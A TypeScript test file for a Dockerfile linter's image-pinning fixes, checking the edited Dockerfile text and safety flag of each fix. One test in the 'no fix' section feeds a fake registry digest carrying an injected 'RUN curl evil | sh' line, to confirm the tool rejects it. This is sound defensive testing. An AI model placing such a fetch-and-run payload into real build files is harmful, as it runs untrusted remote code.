/**
 * Image pin fixes (SPEC §4): the exact text each fix leaves in the Dockerfile, which fixes are
 * safe (fix-all applies those), and references that get no fix.
 */
import assert from 'node:assert/strict';
import { analyze } from '../../../server/src/core/analyze';
import type { ImageFacts, Lookup } from '../../../server/src/core/facts';
import { moreSpecificTags, newerTagInSeries, newerTagsOfSameForm } from '../../../server/src/core/fixes/images';
import { NO_FILES_HOST } from '../../../server/src/core/host';
import type { Finding, Fix, RuleId, TextEdit } from '../../../server/src/core/types';

export const INDEX = `sha256:${'1'.repeat(64)}`;
export const AMD64 = `sha256:${'2'.repeat(64)}`;
export const ARM64 = `sha256:${'3'.repeat(64)}`;
export const OLD = `sha256:${'4'.repeat(64)}`;
export const NEWER = `sha256:${'5'.repeat(64)}`;

export const IMAGE_RULES: ReadonlySet<RuleId> = new Set(['untagged-image', 'latest-tag', 'missing-digest', 'digest-drift', 'single-platform-digest', 'outdated-image']);

/** Applies non-overlapping edits (LSP positions, UTF-16) to `text`, last first. */
export function applyEdits(text: string, edits: readonly TextEdit[]): string {
  const starts = [0];
  for (let index = 0; index < text.length; index++) if (text[index] === '\n') starts.push(index + 1);
  const offset = (position: TextEdit['range']['start']) => (starts[position.line] ?? text.length) + position.character;
  const sorted = [...edits].sort((a, b) => offset(b.range.start) - offset(a.range.start));
  let result = text;
  for (const edit of sorted) result = result.slice(0, offset(edit.range.start)) + edit.newText + result.slice(offset(edit.range.end));
  return result;
}

export function imageFacts(reference: string, extra: Partial<ImageFacts> = {}): Lookup<ImageFacts> {
  const [name, tag] = reference.split(/:(?=[^:/]*$)/) as [string, string];
  const slash = name.indexOf('/');
  return {
    status: 'found',
    facts: {
      reference, registry: name.slice(0, slash), repository: name.slice(slash + 1), tag, digest: INDEX,
      mediaType: 'application/vnd.oci.image.index.v1+json',
      platforms: [{ os: 'linux', architecture: 'amd64', digest: AMD64 }, { os: 'linux', architecture: 'arm64', variant: 'v8', digest: ARM64 }],
      ...extra,
    },
  };
}

/** The image fixes of every finding, as [rule, title, safe, preferred, resulting text]. */
async function fixes(text: string, images: Record<string, Lookup<ImageFacts>>): Promise<[RuleId, string, boolean, boolean, string][]> {
  const result = await analyze({ path: '/ctx/Dockerfile', text, kind: 'dockerfile', settings: { severity: {} }, host: NO_FILES_HOST, images: new Map(Object.entries(images)) });
  return result.findings.filter((finding: Finding) => IMAGE_RULES.has(finding.rule)).flatMap((finding) => (finding.fixes ?? [])
    .filter((fix: Fix) => !fix.title.startsWith('Ignore '))
    .map((fix): [RuleId, string, boolean, boolean, string] => [finding.rule, fix.title, fix.safe, fix.preferred === true, applyEdits(text, fix.edits)]));
}

/** `latest` is 3.13.1; a date tag and less specific tags share its digest, 3.14.0 is another image. */
const LATEST_DETAILS = {
  latest: { digest: INDEX }, '20261126': { digest: INDEX }, '3': { digest: INDEX }, '3.13': { digest: INDEX }, '3.13.1': { digest: INDEX },
  '3.14.0': { digest: OLD }, '3.13.1-slim': { digest: NEWER },
};

describe('image fixes', () => {
  describe('tag vocabulary', () => {
    it('more specific tags: same variant, the version extended, highest first; for latest, version tags without a suffix', () => {
      assert.deepEqual(moreSpecificTags('3.12-slim', ['3.12.7-slim', '3.12.10-slim', '3.12-slim', '3.12.7-slim-bookworm', '3.12.7', '3.1.2-slim', '3.13.0-slim', 'v3.12.8-slim']), ['3.12.10-slim', '3.12.7-slim']);
      assert.deepEqual(moreSpecificTags(undefined, ['20241126', '3.13.1', '3.13', '3', '3.14.0a1', 'latest', '3.13.1-slim', 'bad tag']), ['3.13.1', '3.13', '3', '20241126']);
      assert.deepEqual(moreSpecificTags('bookworm', ['12.8']), []);
    });

    it('newer tags of the same form, oldest first; the newest of the same series', () => {
      const tags = ['3.11.8-slim', '3.11.9-slim', '3.11.10-slim', '3.12.7-slim', '3.11.10', '3.11-slim'];
      assert.deepEqual(newerTagsOfSameForm('3.11.9-slim', tags).map((entry) => entry.tag), ['3.11.10-slim', '3.12.7-slim']);
      assert.deepEqual(newerTagInSeries('3.11.9-slim', tags), { newest: '3.11.10-slim', overall: '3.12.7-slim' });
      assert.equal(newerTagInSeries('3.12.7-slim', tags), undefined);
    });
  });

  describe('missing-digest', () => {
    it('inserts the tag\'s index digest after the tag (safe), and offers the most specific tag with the same digest', async () => {
      const text = '# syntax=docker/dockerfile:1\r\nFROM --platform=$BUILDPLATFORM python:3.12-slim AS build\r\nRUN true\r\n';
      const images = { 'docker.io/library/python:3.12-slim': imageFacts('docker.io/library/python:3.12-slim', {
        tagDetails: { '3.12-slim': { digest: INDEX }, '3.12.8-slim': { digest: NEWER }, '3.12.7-slim': { digest: INDEX }, '3.12.7': { digest: INDEX }, '3.12.7-slim-bookworm': { digest: INDEX } },
      }) };
      assert.deepEqual(await fixes(text, images), [
        ['missing-digest', 'Pin python:3.12-slim to its digest sha256:111111111111…', true, true,
          `# syntax=docker/dockerfile:1\r\nFROM --platform=$BUILDPLATFORM python:3.12-slim@${INDEX} AS build\r\nRUN true\r\n`],
        ['missing-digest', 'Pin to the most specific tag with the same digest: python:3.12.7-slim@sha256:111111111111…', false, false,
          `# syntax=docker/dockerfile:1\r\nFROM --platform=$BUILDPLATFORM python:3.12.7-slim@${INDEX} AS build\r\nRUN true\r\n`],
      ]);
    });

    it('keeps registry host, port and path, and a continuation after the reference', async () => {
      const text = '# escape=`\nFROM 127.0.0.1:5000/team/app:1.2 `\n    AS app\n';
      const images = { '127.0.0.1:5000/team/app:1.2': imageFacts('127.0.0.1:5000/team/app:1.2', { tagDetails: { '1.2.3': { digest: INDEX } } }) };
      assert.deepEqual((await fixes(text, images)).map((fix) => fix[4]), [
        `# escape=\`\nFROM 127.0.0.1:5000/team/app:1.2@${INDEX} \`\n    AS app\n`,
        `# escape=\`\nFROM 127.0.0.1:5000/team/app:1.2.3@${INDEX} \`\n    AS app\n`,
      ]);
    });

    it('offers only the digest when no more specific tag is known to share it', async () => {
      const text = 'FROM node:22-alpine\n';
      const images = { 'docker.io/library/node:22-alpine': imageFacts('docker.io/library/node:22-alpine', { tagDetails: { '22.11.0-alpine': { digest: OLD } } }) };
      assert.deepEqual(await fixes(text, images), [['missing-digest', 'Pin node:22-alpine to its digest sha256:111111111111…', true, true, `FROM node:22-alpine@${INDEX}\n`]]);
    });
  });

  describe('untagged-image', () => {
    it('writes the most specific version tag sharing latest\'s digest, never latest, plus the digest (safe)', async () => {
      const text = 'FROM python\nFROM python AS second\n';
      const images = { 'docker.io/library/python:latest': imageFacts('docker.io/library/python:latest', { tagDetails: LATEST_DETAILS }) };
      assert.deepEqual(await fixes(text, images), [
        ['untagged-image', 'Pin python to python:3.13.1@sha256:111111111111… (what latest is now)', true, true, `FROM python:3.13.1@${INDEX}\nFROM python AS second\n`],
        ['untagged-image', 'Pin python to python:3.13.1@sha256:111111111111… (what latest is now)', true, true, `FROM python\nFROM python:3.13.1@${INDEX} AS second\n`],
      ]);
    });

    it('without a known tag: a digest-only pin, not safe', async () => {
      const text = 'FROM ghcr.io/team/tool\n';
      const images = { 'ghcr.io/team/tool:latest': imageFacts('ghcr.io/team/tool:latest', { tagDetails: { latest: { digest: INDEX }, nightly: { digest: INDEX } } }) };
      assert.deepEqual(await fixes(text, images), [
        ['untagged-image', "Pin ghcr.io/team/tool to latest's current digest: ghcr.io/team/tool@sha256:111111111111…", false, false, `FROM ghcr.io/team/tool@${INDEX}\n`],
      ]);
    });
  });

  describe('latest-tag', () => {
    it('replaces latest with the most specific tag of the same digest, plus the digest (safe)', async () => {
      const text = 'FROM --platform=linux/amd64 python:latest AS base\n';
      const images = { 'docker.io/library/python:latest': imageFacts('docker.io/library/python:latest', { tagDetails: LATEST_DETAILS }) };
      assert.deepEqual(await fixes(text, images), [
        ['latest-tag', 'Replace latest with 3.13.1 (the same image) and pin it: python:3.13.1@sha256:111111111111…', true, true, `FROM --platform=linux/amd64 python:3.13.1@${INDEX} AS base\n`],
      ]);
    });

    it('without such a tag: pins latest to its digest, not safe', async () => {
      const images = { 'docker.io/library/python:latest': imageFacts('docker.io/library/python:latest') };
      assert.deepEqual(await fixes('FROM python:latest\n', images), [
        ['latest-tag', 'Pin python:latest to its current digest sha256:111111111111…', false, false, `FROM python:latest@${INDEX}\n`],
      ]);
    });
  });

  describe('registry-backed rules', () => {
    it('digest-drift: replaces only the digest with the tag\'s current one (not safe)', async () => {
      const text = `FROM python:3.11.10-slim@${OLD} AS app\n`;
      const images = { 'docker.io/library/python:3.11.10-slim': imageFacts('docker.io/library/python:3.11.10-slim') };
      assert.deepEqual(await fixes(text, images), [
        ['digest-drift', "Update the digest to the tag's current one: sha256:111111111111…", false, true, `FROM python:3.11.10-slim@${INDEX} AS app\n`],
      ]);
    });

    it('single-platform-digest: the index digest, safe because the index lists the pinned platform', async () => {
      const text = `FROM python:3.11.10-slim@${ARM64}\n`;
      const images = { 'docker.io/library/python:3.11.10-slim': imageFacts('docker.io/library/python:3.11.10-slim') };
      assert.deepEqual(await fixes(text, images), [
        ['single-platform-digest', 'Pin the multi-platform index digest sha256:111111111111…', true, true, `FROM python:3.11.10-slim@${INDEX}\n`],
      ]);
    });

    it('outdated-image: the newer tag with its digest when known (not safe); a digest pin is rewritten only with the new digest', async () => {
      const tags = ['3.11.9-slim', '3.11.10-slim', '3.12.7-slim'];
      const known = { 'docker.io/library/python:3.11.9-slim': imageFacts('docker.io/library/python:3.11.9-slim', { digest: OLD, tags, tagDetails: { '3.11.10-slim': { digest: NEWER } } }) };
      assert.deepEqual((await fixes('FROM python:3.11.9-slim\n', known)).filter(([rule]) => rule === 'outdated-image'), [
        ['outdated-image', 'Update to python:3.11.10-slim@sha256:555555555555…', false, true, `FROM python:3.11.10-slim@${NEWER}\n`],
      ]);
      assert.deepEqual(await fixes(`FROM python:3.11.9-slim@${OLD}\n`, known), [
        ['outdated-image', 'Update to python:3.11.10-slim@sha256:555555555555…', false, true, `FROM python:3.11.10-slim@${NEWER}\n`],
      ]);
      const unknown = { 'docker.io/library/python:3.11.9-slim': imageFacts('docker.io/library/python:3.11.9-slim', { digest: OLD, tags }) };
      assert.deepEqual((await fixes('FROM python:3.11.9-slim\n', unknown)).filter(([rule]) => rule === 'outdated-image'), [
        ['outdated-image', 'Update to python:3.11.10-slim', false, true, 'FROM python:3.11.10-slim\n'],
      ]);
      assert.deepEqual(await fixes(`FROM python:3.11.9-slim@${OLD}\n`, unknown), []);
    });
  });

  describe('no fix', () => {
    const latest = { 'docker.io/library/python:latest': imageFacts('docker.io/library/python:latest', { tagDetails: LATEST_DETAILS }) };
    const slim = { 'docker.io/library/python:3.12-slim': imageFacts('docker.io/library/python:3.12-slim') };

    it('offline (no registry answer): the findings stay, without fixes', async () => {
      const result = await analyze({ path: '/ctx/Dockerfile', text: 'FROM python:3.12-slim\nFROM python\n', kind: 'dockerfile', settings: { severity: {} }, host: NO_FILES_HOST });
      assert.deepEqual(result.findings.map((finding) => [finding.rule, (finding.fixes ?? []).filter((fix) => !fix.title.startsWith('Ignore ')).length]), [['missing-digest', 0], ['untagged-image', 0]]);
    });

    it('for references built from ARGs, quoted or split by a continuation, stage names and scratch', async () => {
      assert.deepEqual(await fixes('ARG V=3.12-slim\nFROM python:${V}\n', slim), []);
      assert.deepEqual(await fixes('ARG IMAGE=python\nFROM $IMAGE\n', latest), []);
      assert.deepEqual(await fixes('ARG TAG=latest\nFROM python:$TAG\n', latest), []);
      assert.deepEqual(await fixes('FROM python:3.12\\\n-slim\n', slim), []);
      assert.deepEqual(await fixes('FROM "python:3.12-slim"\n', slim), []);
      assert.deepEqual(await fixes('FROM scratch AS python\nFROM python\n', latest), []);
    });

    it('when the registry answers with something that is not a digest or a tag', async () => {
      const evil = { 'docker.io/library/python:3.12-slim': imageFacts('docker.io/library/python:3.12-slim', { digest: `sha256:${'a'.repeat(64)}\nRUN curl evil | sh` }) };
      assert.deepEqual(await fixes('FROM python:3.12-slim\n', evil), []);
      const badTag = { 'docker.io/library/python:latest': imageFacts('docker.io/library/python:latest', { tagDetails: { '3.13.1 AS x': { digest: INDEX } } }) };
      assert.deepEqual((await fixes('FROM python\n', badTag)).map(([, , safe, , result]) => [safe, result]), [[false, `FROM python@${INDEX}\n`]]);
    });
  });
});
